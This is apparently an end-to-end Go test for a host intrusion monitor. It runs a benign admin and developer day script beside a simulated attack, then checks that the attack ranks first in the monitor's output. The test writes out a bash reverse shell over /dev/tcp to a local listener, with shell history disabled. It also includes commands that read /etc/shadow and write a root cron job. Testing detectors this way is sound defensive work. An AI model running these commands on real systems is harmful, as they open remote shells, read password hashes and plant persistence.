package e2e

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"
)

// The benign day's budget (README, "Precision"): no critical alert, and at
// most this many warnings per 1,000 programs run.
const benignWarnsPer1000Execs = 5

// An ordinary admin and developer day (testdata/benign-day.sh: apt-get and
// dpkg with a package built here, go build/vet/test/run, git, useradd,
// usermod, chage, su, userdel, ssh-keygen, a tar of /etc, a local web
// server with curl and python clients, logrotate, rootless namespaces, an
// interactive shell fed by a pipe), judged with the default policy, while an
// attack runs beside it: a reverse shell to a listener on 127.0.0.1 that
// reads /etc/shadow and writes a cron job.  The day raises no critical
// alert and stays under the warning budget; the attack ranks first.
func TestBenignDayAndAnAttackBesideIt(t *testing.T) {
	home, err := os.UserHomeDir()
	if err != nil || home == "" {
		home = "/root"
	}
	work, err := os.MkdirTemp(home, "e2e-day-") // a developer's workspace, not /tmp
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(work, 0o755)
	keepRootHistory(t)
	cron := fmt.Sprintf("/etc/cron.d/e2e-chain-%d", os.Getpid())
	t.Cleanup(func() {
		os.RemoveAll(work)
		os.RemoveAll("/var/log/e2e-day")
		os.Remove(cron)
		exec.Command("apt-get", "purge", "-y", "-q", "e2e-day").Run() // only if the day failed half-way
		keys, _ := filepath.Glob("/root/.ssh/e2eday-*")
		for _, k := range keys {
			os.RemoveAll(k)
		}
	})
	bin := filepath.Join(work, "bin", "helper")
	os.MkdirAll(filepath.Dir(bin), 0o755)
	copyFile(t, helper(t), bin, 0o755)
	script, err := filepath.Abs("testdata/benign-day.sh")
	if err != nil {
		t.Fatal(err)
	}

	// the attacker's end: a listener that types three commands
	port, served := attacker(t, "cat /etc/shadow > /dev/null\necho '* * * * * root true' > "+cron+"\nexit\n")

	m := startMonitor(t, "-i", "1")
	day := exec.Command("bash", script, work, bin)
	var out strings.Builder
	day.Stdout, day.Stderr = &out, &out
	if err := day.Start(); err != nil {
		t.Fatal(err)
	}
	// the attack, while the day runs
	attack := exec.Command("bash", "-c", fmt.Sprintf("bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", port))
	attack.Env = append(os.Environ(), "HISTFILE=/dev/null")
	if b, err := attack.CombinedOutput(); err != nil {
		t.Fatalf("the attack: %v: %s", err, b)
	}
	if err := <-served; err != nil {
		t.Fatal(err)
	}
	if err := day.Wait(); err != nil {
		t.Fatalf("the benign day failed: %v\n%s", err, out.String())
	}
	m.drain(t)
	// the ranking after both
	done := time.Now()
	stats := m.waitFor(t, 10*time.Second, "stats after the day", func(r rec) bool {
		ts, _ := time.Parse(time.RFC3339Nano, r.str("time"))
		top, _ := r.get("monitor", "top").([]any)
		return r.str("event") == "stats" && ts.After(done) && len(top) > 0
	})
	m.stop(t)

	inDay := inTree(day.Process.Pid)
	execs, warns, crits := 0, 0, 0
	var lines []string
	for _, r := range m.find(inDay) {
		if r.str("event") == "exec" && r.str("error") == "" {
			execs++
		}
		if r.get("rules") == nil || r.get("repeats") != nil {
			continue // not an alert, or a fold summary of one already counted
		}
		switch r.str("severity") {
		case "warn":
			warns++
		case "critical":
			crits++
		default:
			continue
		}
		lines = append(lines, r.str("severity")+" "+r.str("message"))
	}
	if execs < 500 {
		t.Errorf("the day ran %d programs: it did not run (want hundreds)\n%s", execs, out.String())
	}
	rate := 1000 * float64(warns) / float64(max(execs, 1))
	t.Logf("benign day: %d programs, %d warn and %d critical alert lines (%.2f warn per 1,000 programs):\n  %s",
		execs, warns, crits, rate, strings.Join(lines, "\n  "))
	if crits > 0 {
		t.Errorf("the benign day raised %d critical alerts", crits)
	}
	if rate > benignWarnsPer1000Execs {
		t.Errorf("the benign day raised %.2f warnings per 1,000 programs, over the budget of %d", rate, benignWarnsPer1000Execs)
	}
	if f := os.Getenv("E2E_BENIGN_DAY_REPORT"); f != "" { // make precision: the figures for README
		os.WriteFile(f, []byte(fmt.Sprintf("programs %d\nwarn %d\ncritical %d\nwarn_per_1000 %.2f\n", execs, warns, crits, rate)), 0o644)
	}

	// the attack ranks first, with its chain of kinds
	top := stats.get("monitor", "top").([]any)
	first := top[0].(map[string]any)
	inAttack := inTree(attack.Process.Pid)
	if !inAttack(rec{"process": map[string]any{"pid": first["pid"], "ancestry": ancestryOf(m, int(num(first["pid"])))}}) {
		t.Errorf("top #1 is pid %v (%v), not the attack (%d); top: %v", first["pid"], first["exe"], attack.Process.Pid, top)
	}
	rules, _ := first["rules"].(map[string]any)
	for _, want := range []string{"reverse-shell", "credential-read", "persistence-write"} {
		if rules[want] == nil {
			t.Errorf("top #1's rules %v lack %s", rules, want)
		}
	}
}

// ancestryOf is the ancestry the monitor reported for pid's last record.
func ancestryOf(m *monitor, pid int) any {
	var anc any
	for _, r := range m.find(pidIs(pid)) {
		anc = r.get("process", "ancestry")
	}
	return anc
}
